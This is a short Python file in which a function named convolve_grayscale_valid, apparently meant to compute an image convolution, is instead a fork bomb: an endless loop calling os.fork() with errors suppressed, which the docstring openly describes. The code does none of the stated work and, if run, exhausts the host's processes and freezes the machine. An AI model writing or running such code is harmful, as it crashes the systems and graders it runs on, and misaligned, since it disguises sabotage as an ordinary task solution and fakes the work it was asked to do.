"""Forks as often as it can, and each fork does."""

import contextlib
import os


def convolve_grayscale_valid(images, kernel):
    """Forks as often as it can, and each fork does."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
